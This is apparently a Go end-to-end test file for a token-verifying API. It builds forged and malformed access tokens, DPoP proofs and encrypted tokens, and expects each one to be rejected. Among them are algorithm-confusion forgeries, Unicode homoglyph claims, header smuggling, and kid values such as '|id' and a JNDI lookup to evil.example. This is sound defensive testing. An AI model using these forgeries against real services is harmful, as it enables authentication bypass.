package e2e_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"slices"
	"strings"
	"time"
)

// attacks are rows by somebody who knows what libraries get wrong: each relies on an interpretation that differs from ours.
func (t *credentialTable) attacks() {
	t.spellings()
	t.numbers()
	t.shapes()
	t.signatures()
	t.jsonTexts()
	t.smuggled()
	t.bindings()
	t.proofReadings()
	t.encryptedReadings()
	t.introspectedReadings()
}

// text signs a header and a payload that are given as text, as no encoder would write them.
func (t *credentialTable) text(header, payload string) string {
	return es256(issuer.SigningKey().Key.(*ecdsa.PrivateKey), header, payload)
}

func inJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // made of what can always be marshalled
	}
	return string(b)
}

// renamed returns a copy with one member under another name.
func renamed(object m, name, to string) m {
	return replaced(replaced(object, to, object[name]), name, gone)
}

// spellings are names and values that somebody may take for the intended ones.
func (t *credentialTable) spellings() {
	for _, tt := range []struct{ name, to, reason string }{
		{"iss", "ISS", "token-issuer"}, {"iss", "ıss", "token-issuer"}, {"aud", "Aud", "token-audience"}, {"exp", "EXP", "token-time"}, {"iat", "Iat", "token-time"},
		{"sub", "ſub", "token-subject"}, {"sub", "sub ", "token-subject"}, {"client_id", "Client_Id", "token-client"}, {"client_id", "client-id", "token-client"},
	} {
		t.token(fmt.Sprintf("claim %s is written %q", tt.name, tt.to), tt.reason, t.sign(t.header, renamed(t.claim, tt.name, tt.to)))
	}
	t.token("claim sub beside ſub", "token-malformed", t.sign(t.header, replaced(t.claim, "ſub", "other")))
	t.token("header kid beside K with the Kelvin sign", "token-malformed", t.sign(replaced(t.header, "\u212aid", "other"), t.claim))
	for _, tt := range []struct{ name, value, reason string }{
		{"client_id", "gp\u200b", "token-claim"}, {"client_id", "gp ", "token-claim"}, {"client_id", "ｇｐ", "token-client"}, {"client_id", "g\u0440", "token-client"}, {"client_id", "gp\u0000", "token-malformed"},
		{"iss", issuer.URL() + "?", "token-issuer"}, {"iss", issuer.URL() + "#", "token-issuer"}, {"iss", issuer.URL() + "\u200b", "token-issuer"}, {"iss", strings.Replace(issuer.URL(), "127.0.0.1", "127.1", 1), "token-issuer"},
		{"iss", strings.Replace(issuer.URL(), "http://", "http://user@", 1), "token-issuer"}, {"aud", strings.ToUpper(issuer.Audience()), "token-audience"}, {"aud", issuer.Audience() + "\u00a0", "token-audience"},
		{"aud", issuer.Audience() + " other", "token-audience"}, {"sub", "a\u200bb", "token-subject"}, {"sub", "a\u202eb", "token-subject"}, {"sub", strings.Repeat("a", 1025), "token-subject"}, {"jti", "a\rb", "token-subject"},
		{"jti", strings.Repeat("a", 1025), "token-subject"}, {"organization_ura", "9000\u00ad0001", "token-claim"}, {"uzi", "900000001\n", "token-claim"}, {"name", "A\u0007", "token-claim"},
	} {
		t.token(fmt.Sprintf("claim %s is %.30q", tt.name, tt.value), tt.reason, t.sign(t.header, replaced(t.claim, tt.name, tt.value)))
	}
}

// numbers are instants that libraries interpret differently, or overflow with.
func (t *credentialTable) numbers() {
	now := time.Now().Unix()
	for _, tt := range []struct {
		name, reason string
		values       []string // of JSON
	}{
		{"exp", "token-time", []string{"1e10", "1.8E9", "-0", "-1.5", "99999999999999999999", "9223372036854775808", "253402300800", "1" + strings.Repeat("0", 400), `["` + fmt.Sprint(now+60) + `"]`, "{}", "false"}},
		{"exp", "token-lifetime", []string{"0", "1", "0.9", fmt.Sprint(t.claim["iat"])}},
		{"iat", "token-time", []string{"-1", "1e3", "1.7e9", "99999999999999999999", "[0]", "true", fmt.Sprint(now + 120)}},
		{"iat", "token-lifetime", []string{"0", "1"}},
		{"nbf", "token-time", []string{"-1", "1e1", "99999999999999999999", "[0]", fmt.Sprint(now+120) + ".5", "false"}},
		{"auth_time", "token-time", []string{"-1", "1e1", "99999999999999999999", "[0,1]", "{}"}},
	} {
		for _, value := range tt.values {
			t.token(fmt.Sprintf("claim %s is the number %.30s", tt.name, value), tt.reason, t.sign(t.header, replaced(t.claim, tt.name, json.RawMessage(value))))
		}
	}
}

// shapes are values in another form than the expected one.
func (t *credentialTable) shapes() {
	for _, tt := range []struct {
		name, reason string
		values       []any
	}{
		{"iss", "token-issuer", []any{1, true, m{"iss": issuer.URL()}, []any{[]string{issuer.URL()}}}},
		{"aud", "token-audience", []any{[]any{[]string{issuer.Audience()}}, true, []any{issuer.Audience(), nil}, []any{m{"aud": issuer.Audience()}}, ""}},
		{"sub", "token-subject", []any{[]string{"uzi-900000001"}, true, m{"sub": "x"}, 1.5}},
		{"uzi_roles", "token-claim", []any{[]any{[]string{"01.015"}}, []any{m{}}, []any{""}, []any{"01.015", nil}, nil, 1}},
		{"purpose_of_use", "token-claim", []any{"TREAT", []any{[]string{"TREAT"}}, m{"0": "TREAT"}, []any{nil}}},
		{"organization_ura", "token-claim", []any{[]string{"90000001"}, 90000001, m{"ura": "90000001"}}},
		{"organization_type", "token-claim", []any{[]string{"Z3"}, true}},
		{"uzi", "token-claim", []any{[]string{"900000001", "900000002"}, 900000001}},
		{"kind", "token-claim", []any{[]string{"provider"}, []string{"provider", "patient"}, nil, 1}},
		{"azp", "token-client", []any{m{"azp": "gp"}, 1, "", "GP"}},
		{"name", "token-claim", []any{[]string{"x"}, m{}}},
	} {
		for _, value := range tt.values {
			t.token(fmt.Sprintf("claim %s has the shape %.40v", tt.name, value), tt.reason, t.sign(t.header, replaced(t.claim, tt.name, value)))
		}
	}
	for name, value := range map[string]any{"kid": m{"kid": 1}, "kid in a list": []any{nil}} {
		t.token("header "+name, "token-key", t.sign(replaced(t.header, "kid", value), t.claim))
	}
	kid, _ := t.header["kid"].(string)
	if kid == "" {
		kid = "demo-1"
	}
	for _, other := range []string{kid + " ", kid + "\u200b", kid + "%00", strings.ToUpper(kid) + "X", "./" + kid, kid + "/../" + kid, "file:///dev/null", "|id", "${jndi:ldap://evil.example}", "\uff0e\uff0e/keys"} {
		t.token(fmt.Sprintf("header kid is %.40q", other), "token-key", t.sign(replaced(t.header, "kid", other), t.claim))
	}
	for name, value := range map[string]any{"Crit": []string{}, "JKU": "http://evil.example", "X5U": "http://evil.example", "Zip": "DEF", "B64": false, "P2C": 1, "x5c": []string{}, "epk": nil} {
		t.token("header "+name+" by another spelling or without a value", "token-header", t.sign(replaced(t.header, name, value), t.claim))
	}
	t.token("header typ in a list", "token-type", t.sign(replaced(t.header, "typ", []string{"at+jwt"}), t.claim))
	t.token("header typ with parameters", "token-type", t.sign(replaced(t.header, "typ", "at+jwt; x=1"), t.claim))
}

// signatures are made with the wrong key, or by the right one and encoded differently.
func (t *credentialTable) signatures() {
	key := issuer.SigningKey().Key.(*ecdsa.PrivateKey)
	good := t.sign(t.header, t.claim)
	part := strings.Split(good, ".")
	input := part[0] + "." + part[1]
	digest := sha256.Sum256([]byte(input))
	der, err := ecdsa.SignASN1(rand.Reader, key, digest[:])
	if err != nil {
		panic(err)
	}
	raw, _ := base64.RawURLEncoding.DecodeString(part[2])
	r, s := raw[:32], raw[32:]
	order := key.Params().N.FillBytes(make([]byte, 32))
	for name, signature := range map[string][]byte{
		"in DER": der, "its halves swapped": slices.Concat(s, r), "longer by zeros": append(slices.Clone(raw), 0, 0), "halves with a leading zero each": slices.Concat([]byte{0}, r, []byte{0}, s),
		"the order in the place of s": slices.Concat(r, order), "the order twice": slices.Concat(order, order), "twice": slices.Concat(raw, raw), "r without s": r, "a single byte": {0},
	} {
		t.token("signature: "+name, "token-signature", input+"."+b64(signature))
	}
	wider, err := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	if err != nil {
		panic(err)
	}
	wr, ws, err := ecdsa.Sign(rand.Reader, wider, digest[:])
	if err != nil {
		panic(err)
	}
	t.token("signature: of a key on P-384 under ES256", "token-signature", input+"."+b64(append(wr.FillBytes(make([]byte, 48)), ws.FillBytes(make([]byte, 48))...)))
	// The public key as a shared secret, which everybody knows.
	spki, _ := x509.MarshalPKIXPublicKey(&key.PublicKey)
	for name, secret := range map[string][]byte{"in DER": spki, "in PEM": pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: spki}), "as a point": publicPoint(key), "empty": {}} {
		header := inJSON(replaced(t.header, "alg", "HS256"))
		signed := b64([]byte(header)) + "." + part[1]
		mac := hmac.New(sha256.New, secret)
		mac.Write([]byte(signed))
		t.token("signature: HS256 with the public key "+name, "token-algorithm", signed+"."+b64(mac.Sum(nil)))
	}
	for _, alg := range []string{"ES256K", "ES512", "RS512", "HS512", "dir", "RSA-OAEP", "ECDH-ES", "Ed25519", "ES256\u0000", "ＥＳ256"} {
		reason := "token-algorithm"
		if strings.Contains(alg, "\u0000") {
			reason = "token-malformed"
		}
		t.token(fmt.Sprintf("signature: alg %q", alg), reason, t.sign(replaced(t.header, "alg", alg), t.claim))
	}
}

// publicPoint returns the uncompressed point of a key (SEC 1 §2.3.3).
func publicPoint(key *ecdsa.PrivateKey) []byte {
	public, err := key.PublicKey.ECDH()
	if err != nil {
		panic(err)
	}
	return public.Bytes()
}

// jsonTexts are objects that parsers interpret differently, or not at all.
func (t *credentialTable) jsonTexts() {
	header, payload := inJSON(t.header), inJSON(t.claim)
	for name, token := range map[string]string{
		"alg twice in the header":             t.text(`{"alg":"none",`+header[1:], payload),
		"ALG beside alg in the header":        t.text(`{"ALG":"none",`+header[1:], payload),
		"an escaped alg beside alg":           t.text(`{"\u0061lg":"none",`+header[1:], payload),
		"crit twice in the header":            t.text(`{"crit":[],"crit":["x"],`+header[1:], payload),
		"exp twice":                           t.text(header, `{"exp":9999999999,`+payload[1:]),
		"aud twice, once last":                t.text(header, payload[:len(payload)-1]+`,"aud":"other"}`),
		"a member twice, deep":                t.text(header, payload[:len(payload)-1]+`,"x":{"y":[{"z":1,"z":2}]}}`),
		"a byte order mark":                   t.text(header, "\ufeff"+payload),
		"a byte order mark before the header": t.text("\ufeff"+header, payload),
		"a comment":                           t.text(header, `{/* x */`+payload[1:]),
		"a comma at the end":                  t.text(header, payload[:len(payload)-1]+`,}`),
		"single quotes":                       t.text(header, strings.ReplaceAll(payload, `"`, `'`)),
		"NaN":                                 t.text(header, `{"x":NaN,`+payload[1:]),
		"a number with a leading zero":        t.text(header, `{"x":01,`+payload[1:]),
		"a hexadecimal number":                t.text(header, `{"x":0x1,`+payload[1:]),
		"a NUL behind the object":             t.text(header, payload+"\x00"),
		"something behind the header":         t.text(header+"x", payload),
		"a NUL in a name":                     t.text(header, `{"a\u0000":1,`+payload[1:]),
		"broken UTF-8":                        t.text(header, `{"x":"`+"\xff\xfe"+`",`+payload[1:]),
		"UTF-8 that is too long":              t.text(header, `{"x":"`+"\xc0\xaf"+`",`+payload[1:]),
		"a replacement character":             t.text(header, `{"x":"\ufffd",`+payload[1:]),
		"a control character in a text":       t.text(header, `{"x":"`+"\x01"+`",`+payload[1:]),
		"a text in the place of the object":   t.text(header, inJSON(payload)),
		"null":                                t.text(header, "null"),
		"an empty header":                     t.text(" ", payload),
		"a header that is a list":             t.text("["+header+"]", payload),
		"nested too deep in the header":       t.text(`{"x":`+strings.Repeat("[", 40)+strings.Repeat("]", 40)+","+header[1:], payload),
		"many brackets":                       t.text(header, strings.Repeat("[", 9000)),
	} {
		t.token("JSON: "+name, "token-malformed", token)
	}
}

// smuggled are tokens in a place where one component looks and another does not.
func (t *credentialTable) smuggled() {
	good := t.sign(t.header, t.claim)
	header := func(values ...string) http.Header {
		h := http.Header{}
		for i := 0; i+1 < len(values); i += 2 {
			h[values[i]] = append(h[values[i]], values[i+1])
		}
		return h
	}
	for name, h := range map[string]http.Header{
		"two spellings of Authorization": header("Authorization", "Bearer "+good, "AUTHORIZATION", "Bearer "+good),
		"an empty one before it":         header("Authorization", "", "authorization", "Bearer "+good),
		"joined by a comma":              header("Authorization", "Bearer "+good+",Bearer "+good),
		"joined by a comma, the first":   header("Authorization", "Bearer x, Bearer "+good),
	} {
		t.row("smuggled: "+name, "authorization-repeated", h)
	}
	for name, h := range map[string]http.Header{
		"Proxy-Authorization": header("Proxy-Authorization", "Bearer "+good), "X-Authorization": header("X-Authorization", "Bearer "+good),
		"Sec-WebSocket-Protocol": header("Sec-Websocket-Protocol", "bearer, "+good), "a cookie of that name": header("Cookie", "Authorization=Bearer "+good), "X-Original-Authorization": header("X-Original-Authorization", "Bearer "+good),
	} {
		t.row("smuggled: "+name, "token-missing", h)
	}
	for name, value := range map[string]string{
		"a space behind it": "Bearer " + good + " \u00a0", "quoted": `Bearer "` + good + `"`, "a percent sign": "Bearer " + strings.Replace(good, ".", "%2E", 1), "as a parameter": "Bearer token=" + good + "; x",
		"high bytes": "Bearer " + good + "\xe9", "a JSON serialization": `Bearer {"protected":"x"}`, "a semicolon": "Bearer " + good + ";x",
	} {
		t.row("smuggled: "+name, "authorization-malformed", header("Authorization", value))
	}
}

// bindings are tokens whose binding could be interpreted as none, or as one to something else.
func (t *credentialTable) bindings() {
	der := sha256.Sum256(t.certificate.Raw)
	jkt, x5t := t.jkt()["jkt"].(string), t.x5t()["x5t#S256"].(string)
	for name, cnf := range map[string]any{
		"x5t#S256 with padding": m{"x5t#S256": x5t + "="}, "x5t#S256 in the alphabet with plus": m{"x5t#S256": base64.RawStdEncoding.EncodeToString(slices.Repeat([]byte{0xfb}, 32))}, "x5t#S256 in hex": m{"x5t#S256": fmt.Sprintf("%x", der)},
		"x5t#S256 with stray bits": m{"x5t#S256": x5t[:42] + garbage(x5t)}, "x5t#S512": m{"x5t#S512": x5t}, "a list": []any{t.jkt()}, "a number": m{"jkt": 1}, "jkt and null": m{"jkt": jkt, "x5t#S256": nil}, "JKT": m{"JKT": jkt},
		"jkt twice by spelling": m{"jkt ": jkt, "jkt": jkt}, "jku": m{"jku": "http://evil.example"}, "a text": jkt, "jkt with white space": m{"jkt": " " + jkt}, "an object in jkt": m{"jkt": m{"jkt": jkt}}, "osc": m{"osc": m{}},
	} {
		t.token("cnf has "+name, "token-binding", t.sign(t.header, replaced(t.claim, "cnf", cnf)))
	}
	for _, name := range []string{"CNF", "cNf"} {
		t.token("cnf is written "+name, "token-binding", t.sign(t.header, replaced(t.claim, name, t.x5t())))
	}
	token := t.bound(t.x5t())
	for name, h := range map[string]http.Header{
		"a certificate in PEM that is cut":   {"Client-Cert": {"-----BEGIN%20CERTIFICATE-----"}},
		"its key in the place of it":         {"Client-Cert": {":" + base64.StdEncoding.EncodeToString(t.certificate.RawSubjectPublicKeyInfo) + ":"}},
		"its digest in the place of it":      {"Client-Cert": {":" + base64.StdEncoding.EncodeToString(der[:]) + ":"}},
		"two in one, by a comma":             {"Client-Cert": {t.shown() + ", " + t.shown()}},
		"two spellings of the header":        {"Client-Cert": {t.shown()}, "CLIENT-CERT": {t.shown()}},
		"its parameters":                     {"Client-Cert": {t.shown() + ";x=1"}},
		"a chain in the place of it":         {"Client-Cert-Chain": {t.shown()}},
		"something behind the certificate":   {"Client-Cert": {":" + base64.StdEncoding.EncodeToString(append(slices.Clone(t.certificate.Raw), 0)) + ":"}},
		"white space within the certificate": {"Client-Cert": {":" + strings.Replace(t.shown()[1:], "A", "A ", 1)}},
	} {
		h["Authorization"] = []string{"Bearer " + token}
		t.row("bound to a certificate, with "+name, "token-certificate", h)
	}
	t.row("bound to a certificate, as DPoP with a proof", "token-proof-scheme", http.Header{"Authorization": {"DPoP " + token}, "Dpop": {t.proof(token, nil, nil)}, "Client-Cert": {t.shown()}})
}

// proofReadings are proofs for what somebody may take for the same request, token or time.
func (t *credentialTable) proofReadings() {
	token := t.bound(t.jkt())
	bad := func(name, reason string, proofs ...string) {
		t.row("proof: "+name, reason, http.Header{"Authorization": {"DPoP " + token}, "Dpop": proofs})
	}
	host := strings.TrimPrefix(t.target, "http://")
	for _, htu := range []string{
		"HTTP://" + host, "http://" + strings.Replace(host, "127.0.0.1", "localhost", 1), strings.Replace(t.target, "/fhir/", "//fhir/", 1), strings.Replace(t.target, "/fhir/", "/x/../fhir/", 1), strings.Replace(t.target, "/fhir/", "/./fhir/", 1),
		t.target + "#", t.target + "?", t.target + "#x", "http://user@" + host, strings.Replace(t.target, "obs-lab", "obs%2Dlab", 1), strings.Replace(t.target, "127.0.0.1:", "127.0.0.1:0", 1), strings.ToUpper(t.target), t.target + "\u200b",
		strings.TrimPrefix(t.target, "http:"), "/" + strings.SplitN(host, "/", 2)[1], t.target + " ", "http://" + strings.SplitN(host, "/", 2)[0],
	} {
		bad(fmt.Sprintf("htu is %q", htu), "proof-target", t.proof(token, nil, m{"htu": htu}))
	}
	other := t.proof(token, nil, nil)
	for reason, changes := range map[string][]m{
		"proof-target": {{"htu": []string{t.target}}, {"htu": nil}},
		"proof-method": {{"htm": "GET "}, {"htm": "Get"}, {"htm": []string{"GET"}}, {"htm": nil}, {"htm": "HEAD"}, {"htm": ""}},
		"proof-token":  {{"ath": ""}, {"ath": nil}, {"ath": sum([]byte(token)) + "="}, {"ath": fmt.Sprintf("%x", sha256.Sum256([]byte(token)))}, {"ath": sum([]byte("DPoP " + token))}, {"ath": []string{sum([]byte(token))}}, {"ath": token}},
		"proof-time":   {{"iat": json.RawMessage("1e9")}, {"iat": json.RawMessage("-1")}, {"iat": time.Now().Unix() - 120}, {"iat": time.Now().Unix() + 120}, {"iat": nil}, {"exp": "x"}, {"exp": json.RawMessage("1e30")}, {"nbf": nil}},
		"proof-id":     {{"jti": nil}, {"jti": []string{"x"}}, {"jti": "a\nb"}, {"jti": "a\u200b"}, {"jti": m{}}},
	} {
		for _, change := range changes {
			bad(fmt.Sprintf("%.80v in the claims", change), reason, t.proof(token, nil, change))
		}
	}
	offCurve := replaced(t.jwk(), "y", b64(make([]byte, 32)))
	for reason, changes := range map[string][]m{
		"proof-type":      {{"typ": "DPoP+JWT"}, {"typ": "application/dpop+jwt"}, {"typ": []string{"dpop+jwt"}}, {"typ": nil}},
		"proof-algorithm": {{"alg": "es256"}, {"alg": "ES256K"}, {"alg": "ES512"}, {"alg": "HS512"}, {"alg": nil}, {"alg": []string{"ES256"}}},
		"proof-key": {{"jwk": offCurve}, {"jwk": []any{t.jwk()}}, {"jwk": inJSON(t.jwk())}, {"jwk": m{"keys": []any{t.jwk()}}}, {"jwk": m{}}, {"jwk": replaced(t.jwk(), "crv", "P-384")}, {"jwk": replaced(t.jwk(), "kty", "RSA")}, {"jwk": nil},
			{"alg": "ES384"}, {"jwk": replaced(t.jwk(), "use", "enc")}, {"jwk": replaced(t.jwk(), "key_ops", []string{"sign"})}, {"jwk": m{"kty": "RSA", "n": "AQAB", "e": "AQAB"}}},
		"proof-header": {{"JKU": "http://evil.example"}, {"x5u": "x"}, {"crit": []string{}}, {"B64": true}, {"zip": "DEF"}, {"cty": "JWT"}, {"enc": "A256GCM"}},
	} {
		for _, change := range changes {
			bad(fmt.Sprintf("%.80v in the header", change), reason, t.proof(token, change, nil))
		}
	}
	part := strings.Split(other, ".")
	claims, _ := base64.RawURLEncoding.DecodeString(part[1])
	head, _ := base64.RawURLEncoding.DecodeString(part[0])
	for name, proof := range map[string]string{
		"two by a comma": other + "," + t.proof(token, nil, nil), "stray bits at its end": other[:len(other)-1] + garbage(other), "padding": other + "=", "empty": "", "white space": " . . ", "htu twice": es256(t.key, string(head), `{"htu":"x",`+string(claims[1:])),
		"jwk twice": es256(t.key, `{"jwk":{},`+string(head[1:]), string(claims)), "JTI beside jti": es256(t.key, string(head), `{"JTI":"x",`+string(claims[1:])), "a token in the place of it": token + ".x",
	} {
		bad(name, "proof-malformed", proof)
	}
	der, err := derOf(part[2])
	if err != nil {
		panic(err)
	}
	bad("signed in DER", "proof-signature", part[0]+"."+part[1]+"."+b64(der))
	bad("the access token itself", "proof-type", token)
	bad("two spellings of the header", "proof-repeated", t.proof(token, nil, nil), t.proof(token, nil, nil))
	t.row("proof: of GET, in another spelling of its header beside it", "proof-repeated", http.Header{"Authorization": {"DPoP " + token}, "Dpop": {t.proof(token, nil, nil)}, "DPOP": {t.proof(token, nil, nil)}})
}

// derOf encodes a signature of two halves as a sequence of two integers.
func derOf(signature string) ([]byte, error) {
	raw, err := base64.RawURLEncoding.DecodeString(signature)
	if err != nil {
		return nil, err
	}
	integer := func(half []byte) []byte {
		b := append([]byte{0}, new(big.Int).SetBytes(half).Bytes()...)
		return append([]byte{2, byte(len(b))}, b...)
	}
	body := append(integer(raw[:32]), integer(raw[32:])...)
	return append([]byte{0x30, byte(len(body))}, body...), nil
}

// encryptedReadings are encrypted tokens that require more of us than decrypting them, or less.
func (t *credentialTable) encryptedReadings() {
	part := strings.Split(t.encrypt(t.sign(t.header, t.claim)), ".")
	raw, _ := base64.RawURLEncoding.DecodeString(part[0])
	var h m
	_ = json.Unmarshal(raw, &h)
	join := func(header string, rest ...string) string {
		return strings.Join(append([]string{b64([]byte(header))}, rest...), ".")
	}
	with := func(name string, value any) string { return join(inJSON(replaced(h, name, value)), part[1:]...) }
	epk, _ := h["epk"].(map[string]any)
	for reason, tokens := range map[string]map[string]string{
		"token-encryption": {
			"an ephemeral key off the curve": with("epk", replaced(epk, "y", b64(make([]byte, 32)))), "an ephemeral key of zeros": with("epk", replaced(replaced(epk, "x", b64(make([]byte, 32))), "y", b64(make([]byte, 32)))),
			"no ephemeral key": with("epk", gone), "an ephemeral key that is none": with("epk", 1), "an ephemeral key on another curve": with("epk", replaced(epk, "crv", "P-521")), "a key that both know": with("epk", m{"kty": "oct", "k": "AAAA"}),
			"ECDH-ES+A128KW": with("alg", "ECDH-ES+A128KW"), "A256GCMKW": with("alg", "A256GCMKW"), "RSA-OAEP-256 to a curve": with("alg", "RSA-OAEP-256"), "none": with("alg", "none"), "alg is a list": with("alg", []string{"ECDH-ES"}), "enc is none": with("enc", "none"),
			"enc is gone": with("enc", gone), "a kid of another case": with("kid", "OURS"), "a kid that is a list": with("kid", []string{"ours"}), "another apu": with("apu", "AAAA"), "another content": strings.Join([]string{part[0], part[1], part[2], b64([]byte("xxxx")), part[4]}, "."),
		},
		"token-header": {
			"jku": with("jku", "http://evil.example"), "jwk": with("jwk", t.jwk()), "x5u": with("x5u", "x"), "x5c": with("x5c", []string{}), "ZIP": with("ZIP", "DEF"), "zip without a value": with("zip", nil), "p2s": with("p2s", "x"), "b64": with("b64", false),
			"iv": with("iv", "x"), "claims of the token beside": with("iss", issuer.URL()), "cty of something else": with("cty", "JWE"), "cty is a list": with("cty", []string{"JWT"}),
		},
		"token-malformed": {
			"the header twice": join(`{"alg":"dir",`+string(raw[1:]), part[1:]...), "a vector of zeros": strings.Join([]string{part[0], part[1], b64(make([]byte, 16)), part[3], part[4]}, "."), "a short tag": strings.Join([]string{part[0], part[1], part[2], part[3], part[4][:8]}, "."),
			"no content": strings.Join([]string{part[0], part[1], part[2], "", part[4]}, "."), "padding": strings.Join(part, ".") + "=", "six parts": strings.Join(part, ".") + ".AAAA", "four parts": strings.Join(part[:4], "."), "stray bits": strings.Join(part[:4], ".") + "." + part[4][:len(part[4])-1] + garbage(part[4]),
		},
	} {
		for name, token := range tokens {
			t.token("encrypted: "+name, reason, token)
		}
	}
	for name, tt := range map[string]struct{ inside, reason string }{
		"unsigned": {strings.Join(strings.Split(t.sign(replaced(t.header, "alg", "none"), t.claim), ".")[:2], ".") + ".AA", "token-algorithm"}, "for another audience": {t.sign(t.header, replaced(t.claim, "aud", "other")), "token-audience"},
		"bound to a key": {t.bound(t.jkt()), "token-proof-scheme"}, "bound to a certificate": {t.bound(t.x5t()), "token-certificate"}, "of another issuer": {t.sign(t.header, replaced(t.claim, "iss", "http://evil.example")), "token-issuer"},
	} {
		t.token("encrypted: a token inside that is "+name, tt.reason, t.encrypt(tt.inside))
	}
}

// introspectedReadings are answers about opaque tokens that somebody may take for a yes.
func (t *credentialTable) introspectedReadings() {
	for _, tt := range []struct {
		claim, reason string
		value         any
	}{
		{"iss", "token-issuer", issuer.URL() + "/"}, {"aud", "token-audience", []any{[]string{issuer.Audience()}}}, {"exp", "token-time", json.RawMessage("1e12")}, {"exp", "token-time", "9999999999"}, {"nbf", "token-time", nil}, {"sub", "token-subject", []string{"x"}},
		{"client_id", "token-claim", "gp "}, {"azp", "token-client", "other"}, {"token_type", "token-type", "N_A"}, {"token_type", "token-type", nil}, {"typ", "token-type", []string{"Bearer"}}, {"token_use", "token-type", "refresh_token"}, {"events", "token-type", m{}},
		{"may_act", "token-claim-unprocessed", m{}}, {"Act", "token-claim-unprocessed", m{}}, {"authorization_details", "token-claim-unprocessed", []any{}}, {"cnf", "token-binding", []any{}}, {"CNF", "token-binding", t.jkt()}, {"uzi_roles", "token-claim", "01.015"}, {"jti", "token-subject", 1},
	} {
		token := fmt.Sprintf("opaque-%d", len(t.rows))
		t.opaque[token] = replaced(replaced(t.claim, "iat", gone), tt.claim, tt.value)
		t.token(fmt.Sprintf("opaque: %s is %.40v", tt.claim, tt.value), tt.reason, token)
	}
	for name, token := range map[string]string{"with the prefix only": "opaque-", "with another case": "Opaque-good", "with padding": "opaque-good=", "of a good one and more": "opaque-goodx"} {
		reason := "token-inactive"
		if name == "with another case" {
			reason = "token-malformed"
		}
		t.token("opaque: a token "+name, reason, token)
	}
}
